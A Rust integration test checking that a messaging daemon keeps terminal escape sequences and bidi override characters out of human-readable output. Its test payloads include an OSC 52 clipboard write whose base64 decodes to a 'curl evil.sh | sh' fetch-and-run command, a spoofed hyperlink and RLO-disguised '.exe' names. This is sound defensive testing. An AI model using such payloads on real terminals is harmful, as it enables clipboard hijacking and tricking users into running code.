//! Terminal escape injection (issue 15 item 8), between real daemons on 127.0.0.1: a message
//! body full of escape sequences (CSI colours and cursor moves, an OSC 8 hyperlink, an OSC 52
//! clipboard write) and a right-to-left override; an invite note or an alias with bidi
//! controls is refused at the source. No human output (`history`, `inbox`, `watch`, `invites`, `connections`) may carry
//! a raw control or bidi character to the terminal; `--json` returns the exact text.

use std::io::{BufRead, BufReader};
use std::process::{Child, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use accord_tests::conversation::{invite_and_accept, send, str_of};
use accord_tests::{ARRIVAL, Daemon, NO_DHT, TestDir, accord, json_array, stderr, stdout};

/// Every trick at once: colours, a screen clear and a cursor move, a hyperlink whose target is
/// not its text, a clipboard write, a C1 CSI, a lone carriage return and a right-to-left
/// override, on two lines.
const HOSTILE_BODY: &str = "\u{1b}[31mred\u{1b}[0m \u{1b}[2J\u{1b}[1;1Hmoved \
    \u{1b}]8;;https://evil.example/\u{1b}\\click me\u{1b}]8;;\u{1b}\\ \
    \u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\nline two \u{9b}2J safe\roverwritten \
    invoice\u{202E}fdp.exe";
/// An invite note with bidi controls: the daemon refuses it, as it refuses control characters.
const HOSTILE_NOTE: &str = "hello \u{202E}\u{2066}txt.exe\u{2069}";
/// The note sent instead: right-to-left text itself is fine, only formatting characters are not.
const NOTE: &str = "hello — שלום ✓";
/// An alias with a right-to-left override: refused, like such a note.
const HOSTILE_ALIAS: &str = "bob\u{202E}gpj.exe";
/// The alias set instead: right-to-left text is fine.
const ALIAS: &str = "בוב";

/// Whether `c` must never reach the terminal: a control character other than the newline
/// that ends a line, or a bidirectional formatting character.
fn is_dangerous(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(
            c,
            '\u{061C}'
                | '\u{200E}'
                | '\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2066}'..='\u{2069}'
        )
}

/// Panics if the human output of `what` holds a dangerous character.
fn assert_terminal_safe(what: &str, text: &str) {
    if let Some(c) = text.chars().find(|&c| is_dangerous(c)) {
        panic!("`accord {what}` printed the raw character {c:?} to the terminal: {text:?}");
    }
}

/// Runs a human-readable (no `--json`) command on `node` and returns what it printed.
fn human(node: &Daemon, args: &[&str]) -> String {
    let output = node.run(args);
    assert!(
        output.status.success(),
        "accord {args:?} failed: {}",
        stderr(&output)
    );
    stdout(&output)
}

/// A running human-readable `accord watch`: its lines, read on a thread.
struct HumanWatch {
    child: Child,
    lines: mpsc::Receiver<String>,
}

impl HumanWatch {
    fn start(node: &Daemon) -> HumanWatch {
        let mut child = accord(&node.data_dir, &["watch"])
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|err| panic!("cannot run accord watch: {err}"));
        let out = child.stdout.take().unwrap_or_else(|| panic!("stdout"));
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            // Lines are split on '\n' only and kept as bytes, so nothing the sanitiser missed
            // is hidden by the reader.
            for line in BufReader::new(out).split(b'\n') {
                let Ok(line) = line else { break };
                if tx
                    .send(String::from_utf8_lossy(&line).into_owned())
                    .is_err()
                {
                    break;
                }
            }
        });
        HumanWatch { child, lines }
    }

    /// The next line that contains `needle`, waiting at most `timeout`; every line read on
    /// the way is checked too.
    fn line_with(&self, needle: &str, timeout: Duration) -> Option<String> {
        let deadline = Instant::now() + timeout;
        loop {
            let left = deadline.checked_duration_since(Instant::now())?;
            let line = self.lines.recv_timeout(left).ok()?;
            assert_terminal_safe("watch", &line);
            if line.contains(needle) {
                return Some(line);
            }
        }
    }
}

impl Drop for HumanWatch {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn hostile_text_never_reaches_the_terminal_raw_but_json_stays_exact() {
    let dir = TestDir::new();
    let a = Daemon::start_with_config(&dir.path("a"), NO_DHT, &[]);
    let b = Daemon::start_with_config(&dir.path("b"), NO_DHT, &["--bootstrap", &a.tcp_addr()]);
    b.wait_for_peer(&a.id, ARRIVAL);
    let refused = a.run(&["connect", &b.id, "--note", HOSTILE_NOTE]);
    assert_eq!(refused.status.code(), Some(1), "a bidi note was accepted");
    assert!(
        stderr(&refused).contains("bidirectional formatting character"),
        "{}",
        stderr(&refused)
    );
    // The helper checks through --json that the note arrives exactly as written.
    invite_and_accept(&a, &b, NOTE);
    let refused = b.run(&["alias", &a.id, HOSTILE_ALIAS]);
    assert_eq!(refused.status.code(), Some(1), "a bidi alias was accepted");
    assert!(
        stderr(&refused).contains("bidirectional formatting"),
        "{}",
        stderr(&refused)
    );
    let alias = b.json(&["alias", &a.id, ALIAS]);
    assert_eq!(alias["alias"], ALIAS, "{alias}");

    // A subscription sees only what happens after it is registered, and `watch` prints
    // nothing until then: markers go out until one shows, then the watch sees everything.
    let watch = HumanWatch::start(&b);
    let deadline = Instant::now() + ARRIVAL;
    loop {
        let (marker, _) = send(&a, &b.id, "marker");
        if watch.line_with(&marker, Duration::from_secs(2)).is_some() {
            break;
        }
        assert!(Instant::now() < deadline, "b's watch never showed a marker");
    }
    let (id, _) = send(&a, &b.id, HOSTILE_BODY);
    let line = watch
        .line_with(&id, ARRIVAL)
        .unwrap_or_else(|| panic!("b's watch did not show message {id}"));
    assert!(line.contains("invoice"), "{line:?}");

    // --json carries the exact body, note and alias.
    let history = b.history(&a.id);
    let hostile = history
        .iter()
        .find(|m| m["message_id"] == id.as_str())
        .unwrap_or_else(|| panic!("message {id} not in b's history"));
    assert_eq!(str_of(hostile, "body"), HOSTILE_BODY);
    let invites = b.invites("--incoming");
    assert!(invites.iter().any(|i| i["note"] == NOTE), "{invites:?}");
    let connections = b.connections();
    assert!(
        connections.iter().any(|c| c["alias"] == ALIAS),
        "{connections:?}"
    );
    let inbox = json_array(b.json(&["inbox"]));
    assert!(inbox.iter().any(|c| c["alias"] == ALIAS), "{inbox:?}");

    // Every human view of the same data is safe, and still shows the harmless text.
    let history = human(&b, &["history", &a.id]);
    assert_terminal_safe("history", &history);
    assert!(history.contains("line two"), "{history:?}");
    assert!(history.contains("invoice"), "{history:?}");
    for args in [
        &["inbox"][..],
        &["invites"][..],
        &["invites", "--incoming"][..],
        &["connections"][..],
    ] {
        let text = human(&b, args);
        assert_terminal_safe(&args.join(" "), &text);
        assert!(!text.trim().is_empty(), "accord {args:?} printed nothing");
    }
    let invites = human(&b, &["invites"]);
    assert!(invites.contains("שלום"), "{invites:?}");
    let renamed = human(&b, &["alias", &a.id, ALIAS]);
    assert_terminal_safe("alias", &renamed);
}
